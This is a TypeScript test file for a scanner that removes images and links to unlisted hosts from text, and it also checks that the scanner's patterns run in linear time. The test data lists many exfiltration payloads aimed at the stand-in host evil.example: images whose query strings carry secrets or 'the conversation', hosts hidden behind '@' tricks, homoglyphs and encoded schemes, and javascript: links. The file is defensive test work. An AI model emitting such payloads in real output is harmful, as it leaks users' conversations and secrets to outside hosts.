import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { checkSync } from 'recheck';
import { joined, without } from '../spans.ts';
import { MATCH_SPAN } from '../types.ts';
import { ATTRIBUTE, IN_STYLE, TAG } from './html.ts';
import { AUTOLINK, DEFINITION } from './markdown.ts';
import { BARE, scanLinks, TO_FILL } from './scan-links.ts';

const NONE: readonly string[] = [];
const LIST = ['docs.example', '*.cdn.example'];

const after = (text: string, hosts: readonly string[]): string => without(text, joined(scanLinks(text, hosts)));

test('brackets that nest deeper than renderers take are not read to their end, each from its beginning [ATK-21]', () => {
  const text = `![x](https://evil.example/${'('.repeat(100)} and on`;
  const [{ start, end } = { start: 0, end: 0 }] = scanLinks(text, NONE);
  assert.equal(text.slice(start, end), `![x](https://evil.example/${'('.repeat(32)}`);
});

test('an image is taken out wherever it leads, in each way to write one [ATK-10]', () => {
  for (const image of [
    '![x](https://evil.example/?d=1)',
    '![x](<https://evil.example/a b> "title")',
    '![a [nested] b](https://evil.example/x (title))',
    '![x](//evil.example/a.png)',
    '![x](\\\\evil.example/a.png)',
    '![x](/\\evil.example/a.png)',
    '![x](https:evil.example)',
    '![x](&#104;ttps://evil.example/a.png)',
    '![x](https&colon;//evil.example/a.png)',
    '![x](ht\ntps://evil.example/a.png)'.replace('\n', ''),
    '![what it shows][ref]',
    '![ref][]',
    '![ref] and more',
    '<img src="https://evil.example/a.png">',
    "<IMG alt='>' SRC='https://evil.example/a.png'>",
    '<img src=https://evil.example/a.png>',
    '<img/src="https://evil.example/a.png"/>',
    '<img srcset="/here.png 1x, https://evil.example/b.png 2x">',
    '<video poster="https://evil.example/p.png"></video>',
    '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    '<div style="background: url(https://evil.example/b.png)">',
    '<svg><image xlink:href="https://evil.example/s.png"/></svg>',
    '<iframe src="https://evil.example/">',
  ]) {
    const left = after(`before ${image} after`, NONE);
    assert.ok(left.startsWith('before ') && left.includes('after'), left);
    assert.deepEqual(scanLinks(left, NONE), [], left);
    assert.doesNotMatch(left, /evil\.example|\]\[|!\[/, left);
  }
});

test('an image is found however its brackets, its address or its tag are obscured [ATK-10]', () => {
  for (const image of [
    `![${'long '.repeat(200)}](https://evil.example/a.png)`,
    '![a \\[ b](https://evil.example/a.png)',
    '![a \\] b](https://evil.example/a.png)',
    '![a `[` b](https://evil.example/a.png)',
    `![${'long '.repeat(200)} \`](\` and \`[\` b](https://evil.example/a.png)`,
    '![a <b title="["> c](https://evil.example/a.png)',
    '[ opened before\n|\nhere ](https://evil.example/a.png)',
    `![x](${' '.repeat(300)}https://evil.example/a.png)`,
    '![x](https\\://evil.example/a.png)',
    `![x](<https://evil.example/${'a'.repeat(3000)}>)`,
    `![${'long '.repeat(60)}][ref]`,
    '![over\ntwo lines][ref]',
    '![nested [brackets] here][ref]',
    '![ref]: and more',
    '![over\ntwo lines]',
    `<img alt="${'long '.repeat(700)}" src="https://evil.example/a.png">`,
    `<img alt="never closed > src=x`,
    `<img src${' '.repeat(100)}=${' '.repeat(100)}"https://evil.example/a.png">`,
    '<style>@import "https://evil.example/a.css"</style>',
    '<p style="background: image-set( \'https://evil.example/a.png\' 1x)">',
  ]) {
    const shown = scanLinks(`before ${image}`, NONE).filter(({ rule }) => rule === 'foreign-image');
    assert.notEqual(shown.length, 0, image.slice(0, 200));
  }
  const rest = after('!![](https://evil.example/a)(https://evil.example/b)', NONE);
  assert.deepEqual(scanLinks(rest, NONE), [], 'what stands in its place is no half of another');
  assert.deepEqual(scanLinks('[`a`](https://docs.example/) a[0](b) x[i][j] and <b>text</b>', NONE), []);
});

test('an image from a listed host stays, and so does one that is in the text or beside it [ATK-10]', () => {
  for (const image of [
    '![x](https://docs.example/a.png)',
    '![x](https://DOCS.example:443/a.png?v=1)',
    '![x](https://img.cdn.example/a.png)',
    '<img src="https://docs.example/a.png">',
    '![x](a.png)',
    '![x](#part)',
    '![x](data:image/png;base64,iVBORw0KGgo=)',
  ]) {
    assert.deepEqual(scanLinks(image, LIST), [], image);
  }
  assert.equal(scanLinks('![x](https://cdn.example/a.png)', LIST).length, 1);
});

test('a host is the one that a client connects to, however it is written [ATK-10]', () => {
  for (const address of [
    'https://docs.example@evil.example/',
    'https://docs.example%40evil.example/',
    'https://docs.example\\@evil.example/',
    'https://evil.example/docs.example',
    'https://evil.example#@docs.example',
    'https://docs.example.evil.example/',
    'https://xdocs.example/',
    'https://0x7f.1/',
    'https://2130706433/',
    'https://docs。example.evil.example/',
    'https://dосs.example/',
    'http://[::1]/',
    'ftp://evil.example/x',
  ]) {
    assert.equal(scanLinks(`[x](${address})`, LIST).length, 1, address);
  }
  for (const address of [
    'https://docs.example./x',
    'https://user@docs.example/',
    'HTTPS://DOCS.EXAMPLE',
    '//docs.example/a',
  ]) {
    assert.deepEqual(scanLinks(`[x](${address})`, LIST), [], address);
  }
});

test('without a list a link stays, unless it carries a value, has a place for one, or runs something [ATK-10]', () => {
  for (const link of [
    '[the manual](https://manual.example/page?id=42#part)',
    'see https://manual.example/commit/0123456789abcdef0123456789abcdef01234567.',
    '<https://manual.example/>',
    '[ref]: https://manual.example/page',
    '<a href="https://manual.example/">manual</a>',
    '[mail](mailto:help@manual.example)',
    'http://manual.example/a_(b)',
  ]) {
    assert.deepEqual(scanLinks(link, NONE), [], link);
    const isMail = link.includes('mailto');
    assert.equal(scanLinks(link, LIST).length, isMail ? 0 : 1, link);
  }
  for (const [link, rule] of [
    ['[click](https://evil.example/?q={secret})', 'foreign-link'],
    ['https://evil.example/log?data=', 'foreign-link'],
    ['https://evil.example/log?d=<the conversation>', 'foreign-link'],
    ['[click](https://evil.example/?mail=ann.smith@corp.example)', 'foreign-link'],
    ['[click](https://evil.example/?mail=ann.smith%40corp.example)', 'foreign-link'],
    ['[click](javascript:alert(1))', 'active-link'],
    ['[click](java&Tab;script:alert(1))', 'active-link'],
    ['<a href="data:text/html,x">x</a>', 'active-link'],
  ] as const) {
    assert.deepEqual(
      scanLinks(link, NONE).map((finding) => finding.rule),
      [rule],
      link,
    );
  }
});

test('what stands in its place names host and label in plain words, and leads nowhere [ATK-10]', () => {
  assert.equal(
    after('See ![Q3 chart](https://evil.example/q3.png "t").', NONE),
    'See Q3 chart (image removed: evil[.]example).',
  );
  assert.equal(after('[Pay](https://evil.example/a)', LIST), 'Pay (link removed: evil[.]example)');
  const label = '![https://evil.example/?d=1 <b>](https://evil.example/)';
  assert.deepEqual(scanLinks(after(label, LIST), LIST), []);
});

const piece = fc.oneof(
  fc.string({ unit: 'grapheme', maxLength: 20 }),
  fc.constantFrom(
    '![',
    '](',
    ')',
    '[',
    ']',
    '<img src=',
    '">',
    "'",
    '<a href="',
    'https://',
    'evil.example',
    '/\\',
    '&#x2f;',
    '%',
  ),
);
const anyText = fc.array(piece, { maxLength: 60 }).map((pieces) => pieces.join(''));

test('any text can be looked at: spans are within it, and one that was taken out is not found again [ATK-10]', () => {
  fc.assert(
    fc.property(anyText, fc.constantFrom(NONE, LIST), (text, hosts) => {
      for (const { start, end, instead } of scanLinks(text, hosts)) {
        assert.ok(start >= 0 && start < end && end <= text.length && end - start < MATCH_SPAN);
        assert.deepEqual(scanLinks(instead ?? '', hosts), []);
      }
    }),
    { numRuns: 500 },
  );
});

test('every pattern takes linear time [ATK-21]', () => {
  for (const { source, flags } of [ATTRIBUTE, AUTOLINK, BARE, DEFINITION, IN_STYLE, TAG, TO_FILL]) {
    // No repetition is without a bound; one of eight grows as one of two thousand does.
    assert.doesNotMatch(source, /(?<!\\)[*+](?![^[]*\])|,\}/, source);
    const small = source.replace(/,\d{2,}\}/g, ',8}');
    assert.equal(checkSync(small, flags, { checker: 'automaton' }).status, 'safe', source);
  }
});
